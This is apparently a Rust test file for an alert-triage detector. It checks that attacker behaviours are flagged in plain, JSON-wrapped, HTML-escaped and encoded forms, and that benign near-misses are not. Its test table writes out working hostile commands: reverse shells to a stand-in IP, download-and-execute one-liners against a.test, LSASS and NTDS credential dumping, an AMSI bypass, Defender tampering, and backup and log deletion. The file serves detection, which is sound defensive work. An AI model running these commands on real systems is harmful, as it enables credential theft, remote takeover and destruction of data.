//! Each signal fires plain and as JSON writes it, and stays silent on what is only near.

use std::collections::BTreeSet;

use proptest::prelude::*;
use serde_json::json;

use super::*;
use crate::alert::{AlertFormat, parse_alert};
use crate::decode::decode_layers;

fn ids(raw: &str) -> Vec<String> {
    let alert = parse_alert(raw);
    let signals = find_signals(&alert, &decode_layers(&alert.raw));
    signals.into_iter().map(|signal| signal.id).collect()
}

/// A command or message that fires the signal, and one beside it that fires nothing.
const CASES: &[(&str, &str, &str)] = &[
    (
        "lsass-dump",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\t\l.bin full",
        r"rundll32.exe C:\Windows\System32\comsvcs.dll, DllRegisterServer",
    ),
    (
        "lsass-dump",
        r#""C:\tools\procdump64.exe" -accepteula -ma lsass.exe out.dmp"#,
        "procdump64.exe -ma w3wp.exe out.dmp",
    ),
    (
        "lsass-dump",
        r"TargetFilename: C:\Users\x\AppData\Local\Temp\lsass.DMP",
        r"Image: C:\Windows\System32\lsass.exe",
    ),
    (
        "mimikatz",
        r#"m.exe "privilege::debug" "sekurlsa::logonpasswords" exit"#,
        "std::debug lsa secrets policy",
    ),
    (
        "credential-store-copy",
        r"reg.exe save HKLM\SAM C:\t\sam.hiv",
        r"reg.exe query HKLM\SAM",
    ),
    (
        "credential-store-copy",
        r#"ntdsutil "ac i ntds" "ifm" "create full c:\t" q q"#,
        r#"ntdsutil "metadata cleanup" q"#,
    ),
    (
        "credential-store-copy",
        r"copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit C:\t",
        r"C:\Windows\NTDS\ntds.dit opened by lsass.exe",
    ),
    (
        "dcsync",
        "Properties: {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}",
        "Properties: {bf967aba-0de6-11d0-a285-00aa003049e2}",
    ),
    (
        "kerberos-attack",
        "Rubeus.exe kerberoast /outfile:h.txt",
        "Kerberos ticket was renewed",
    ),
    (
        "backup-deletion",
        "vssadmin.exe Delete Shadows /all /quiet",
        "vssadmin.exe list shadows",
    ),
    (
        "backup-deletion",
        r#""wmic" shadowcopy where "ID='x'" delete"#,
        "wmic shadowcopy list brief",
    ),
    (
        "backup-deletion",
        "wbadmin DELETE CATALOG -quiet",
        "wbadmin get versions",
    ),
    (
        "backup-deletion",
        "bcdedit /set {default} recoveryenabled No",
        "bcdedit /set {default} recoveryenabled Yes",
    ),
    (
        "ransom-note",
        r"TargetFilename: C:\Users\a\Desktop\HOW_TO_RECOVER_FILES.txt",
        r"TargetFilename: C:\repo\README.txt",
    ),
    (
        "ransom-note",
        "All your important files have been encrypted!",
        "your files are backed up",
    ),
    (
        "reverse-shell",
        "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
        "timeout 1 bash -c 'echo > /dev/tcp/10.0.0.1/443' && echo open",
    ),
    (
        "reverse-shell",
        "nc 198.51.100.7 4444 -e /bin/sh",
        "nc -zv 10.0.0.1 443",
    ),
    (
        "reverse-shell",
        "exec 5<>/dev/tcp/198.51.100.7/9001; cat <&5",
        "cat </dev/null",
    ),
    (
        "web-shell",
        "w3wp.exe spawned cmd.exe",
        "w3wp.exe started csc.exe",
    ),
    (
        "office-child",
        "WINWORD.EXE launched powershell.exe",
        "WINWORD.EXE launched splwow64.exe",
    ),
    (
        "c2-framework",
        r"PipeName: \MSSE-4242-server",
        r"PipeName: \mojo.1234.5678.9",
    ),
    (
        "c2-framework",
        "Behavior:Win32/CobaltStrike.A",
        "a sliver of hope, badger badger",
    ),
    (
        "download-execute",
        "powershell IEX (New-Object Net.WebClient).DownloadString('http://a.test/x')",
        "(New-Object Net.WebClient).DownloadFile('http://a.test/x','x.zip')",
    ),
    (
        "download-execute",
        "iwr http://a.test/x -UseBasicParsing | iex",
        "iwr http://a.test/x -OutFile x.zip",
    ),
    (
        "mshta-remote",
        "mshta.exe http://a.test/x.hta",
        r"mshta.exe C:\app\setup.hta",
    ),
    (
        "regsvr32-scriptlet",
        "regsvr32 /s /n /u /i:http://a.test/x.sct scrobj.dll",
        r"regsvr32 /s C:\app\control.ocx",
    ),
    (
        "certutil-download",
        "certutil -urlcache -split -f http://a.test/x.exe x.exe",
        "certutil -hashfile x.exe SHA256",
    ),
    (
        "bitsadmin-download",
        r"bitsadmin /transfer j /priority high http://a.test/x.exe C:\t\x.exe",
        "bitsadmin /list /allusers",
    ),
    (
        "defender-tampering",
        "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
        "Set-MpPreference -DisableRealtimeMonitoring $false",
    ),
    (
        "defender-tampering",
        r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows Defender /v DisableAntiSpyware /t REG_DWORD /d 1 /f",
        r"reg query HKLM\SOFTWARE\Policies\Microsoft\Windows Defender /v DisableAntiSpyware",
    ),
    (
        "amsi-bypass",
        "[Ref].Assembly.GetType('x').GetField('amsiInitFailed')",
        "amsi.dll loaded",
    ),
    (
        "log-clearing",
        "wevtutil.exe cl Security",
        "wevtutil.exe el",
    ),
    (
        "log-clearing",
        "Clear-EventLog -LogName System",
        "Get-EventLog -LogName System",
    ),
    (
        "psexec-service",
        r"ServiceName: PSEXESVC",
        r"psexec was not found",
    ),
    (
        "psexec-service",
        r"PsExec.exe -accepteula \\SRV01 -s cmd",
        "psexec.exe -accepteula -i cmd",
    ),
    (
        "remote-output",
        r"cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__1773432103.42 2>&1",
        r"dir \\127.0.0.1\ADMIN$\Temp",
    ),
    (
        "admin-added",
        r#"net localgroup "Administrators" mallory /add"#,
        r#"net localgroup "Administrators""#,
    ),
    (
        "accessibility-backdoor",
        r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe\Debugger",
        r"Image File Execution Options\notepad.exe\Debugger",
    ),
    (
        "aws-root-login",
        "Root user signed in to the console without MFA",
        "root login with MFA",
    ),
    (
        "cloudtrail-off",
        "aws cloudtrail stop-logging --name main",
        "aws cloudtrail describe-trails",
    ),
    (
        "crypto-miner",
        "./k -o stratum+tcp://pool.test:3333",
        "tcp://pool.test:3333",
    ),
    (
        "ssh-key-planted",
        "uid=www-data sh -c echo ssh-rsa AAAA >> /home/x/.ssh/authorized_keys",
        "uid=root vi /root/.ssh/authorized_keys",
    ),
    (
        "cron-download",
        "(crontab -l; echo '*/5 * * * * curl -s http://a.test/x | sh') | crontab -",
        "*/5 * * * * curl -s http://a.test/health -o /dev/null",
    ),
    (
        "setuid-shell",
        "cp /bin/bash /tmp/.b && chmod u+s /tmp/.b",
        "cp /bin/bash /tmp/b && chmod 755 /tmp/b",
    ),
    (
        "setuid-shell",
        "chmod 4755 /tmp/bash",
        "chmod 755 /tmp/run.sh",
    ),
    (
        "malware-left",
        "Threat Trojan:Win32/X was detected; remediation failed",
        "Threat Trojan:Win32/X was quarantined",
    ),
    (
        "rclone-exfiltration",
        r"rclone.exe copy \\fs01\finance remote:dump --transfers 16",
        r"rclone copy C:\data D:\backup",
    ),
];

/// As serialisers write that escape what HTML gives a meaning.
fn html_safe(json: &str) -> String {
    let escapes = [
        ("\\\"", "\\u0022"),
        ("'", "\\u0027"),
        ("<", "\\u003c"),
        (">", "\\u003e"),
        ("&", "\\u0026"),
    ];
    escapes
        .iter()
        .fold(json.to_owned(), |json, (from, to)| json.replace(from, to))
}

#[test]
fn each_behaviour_fires_in_every_spelling_and_not_beside_it() {
    let mut wrong = Vec::new();
    for (id, text, near) in CASES {
        for (text, expected) in [(text, &[*id][..]), (near, &[])] {
            let in_json = json!({"event": {"command_line": text}, "pid": 4}).to_string();
            let twice = json!({"message": in_json}).to_string();
            let after_a_line = json!({"message": format!("x\n{text}\ty")}).to_string();
            let safe = html_safe(&in_json);
            for raw in [(*text).to_owned(), in_json, safe, twice, after_a_line] {
                let found = ids(&raw);
                if found != expected {
                    wrong.push(format!("{found:?} instead of {expected:?}: {raw}"));
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn every_behaviour_has_its_case() {
    let by_fields = ["ransomware-rule"];
    let tried: BTreeSet<_> = CASES.iter().map(|(id, ..)| *id).chain(by_fields).collect();
    let all: BTreeSet<_> = BEHAVIOURS.iter().map(|behaviour| behaviour.id).collect();
    assert_eq!(tried, all);
    assert_eq!(all.len(), BEHAVIOURS.len(), "no id stands twice");
    for behaviour in BEHAVIOURS {
        assert!(behaviour.severity >= Severity::High);
        for id in behaviour.techniques {
            assert!(id.parse::<TechniqueId>().is_ok(), "{id}");
        }
    }
}

#[test]
fn fields_tell_what_text_does_not() {
    let check = |raw: &str, expected: &[&str]| assert_eq!(ids(raw), expected, "{raw}");
    check(
        "Odd. ParentImage: C:\\Windows\\System32\\inetsrv\\w3wp.exe CommandLine: cmd.exe /c whoami",
        &["web-shell"],
    );
    check(
        "Odd. ParentImage: C:\\Windows\\explorer.exe CommandLine: cmd.exe /c whoami",
        &[],
    );
    check(
        r#"{"process":{"name":"sh","parent":{"name":"php-fpm"}}}"#,
        &["web-shell"],
    );
    check(
        r#"{"process":{"name":"php-fpm","parent":{"name":"sh"}}}"#,
        &[],
    );
    check(
        r#"{"Image":"C:\\W\\mshta.exe","ParentImage":"C:\\P F\\WINWORD.EXE"}"#,
        &["office-child"],
    );
    check(
        r#"{"FileName":"cmd.exe","InitiatingProcessFileName":"EXCEL.EXE"}"#,
        &["office-child"],
    );
    check(
        r#"{"Image":"cmd.exe","ParentImage":"x.exe","GrandparentImage":"EXCEL.EXE"}"#,
        &[],
    );
    check(
        r#"{"rule":{"name":"Ransomware behaviour"},"pid":4}"#,
        &["ransomware-rule"],
    );
    check(
        r#"{"rule":{"name":"Logon"},"product":"Anti-Ransomware"}"#,
        &[],
    );
    check(
        r#"{"winlog":{"event_id":1102,"channel":"Security"}}"#,
        &["log-clearing"],
    );
    check(
        r#"{"winlog":{"event_id":1102,"channel":"Application"}}"#,
        &[],
    );
    check(
        r#"{"eventName":"StopLogging","user":"a"}"#,
        &["cloudtrail-off"],
    );
    let login = |kind: &str, mfa: &str| {
        json!({"eventName": "ConsoleLogin", "userIdentity": {"type": kind}, "additionalEventData": {"MFAUsed": mfa}}).to_string()
    };
    check(&login("Root", "No"), &["aws-root-login"]);
    check(&login("Root", "Yes"), &[]);
    check(&login("IAMUser", "No"), &[]);
}

#[test]
fn a_command_in_a_layer_fires_where_it_was_encoded() {
    // "vssadmin delete shadows" in UTF-16.
    let raw = "powershell -enc dgBzAHMAYQBkAG0AaQBuACAAZABlAGwAZQB0AGUAIABzAGgAYQBkAG8AdwBzAA==";
    let alert = parse_alert(raw);
    let layers = decode_layers(raw);
    let signals = find_signals(&alert, &layers);
    assert_eq!(signals.len(), 1);
    assert_eq!(signals[0].quote, "vssadmin delete shadows");
    assert_eq!(signals[0].layer, Some(0));
    assert_eq!(signals[0].span, Some(layers[0].span));
}

#[test]
fn the_rules_severity_comes_first() {
    let mut alert = parse_alert("Severity: high\nCommandLine: vssadmin delete shadows /all");
    let check = |alert: &Alert, expected: &[&str]| {
        let signals = find_signals(alert, &[]);
        let ids: Vec<_> = signals.iter().map(|signal| signal.id.as_str()).collect();
        assert_eq!(ids, expected);
    };
    for severity in [None, Some(Severity::Low), Some(Severity::Medium)] {
        alert.severity = severity;
        check(&alert, &["backup-deletion"]);
    }
    alert.severity = Some(Severity::High);
    check(&alert, &["rule-severity", "backup-deletion"]);
    let first = find_signals(&alert, &[]).remove(0);
    assert_eq!(
        (first.severity, first.quote.as_str()),
        (Severity::High, "high")
    );
    assert!(
        first
            .span
            .is_some_and(|span| alert.raw.get(span.range()) == Some("high"))
    );
    alert.severity = Some(Severity::Critical);
    assert_eq!(find_signals(&alert, &[])[0].severity, Severity::Critical);
}

proptest! {
    #[test]
    fn any_text_is_survived(
        text in r#"(procdump|lsass|mimikatz|chmod 4755 |bash|www-data|authorized_keys|>> ?|\|iex|irm |["\\{}:, \n]|\PC){0,50}"#
    ) {
        let alert = parse_alert(&text);
        for signal in find_signals(&alert, &[]) {
            prop_assert!(signal.quote.len() <= MAX_QUOTE_BYTES);
            if let Some(span) = signal.span && alert.format == AlertFormat::Text {
                let there = alert.raw.get(span.start..).unwrap_or_default();
                prop_assert!(there.starts_with(&signal.quote));
            }
        }
    }
}
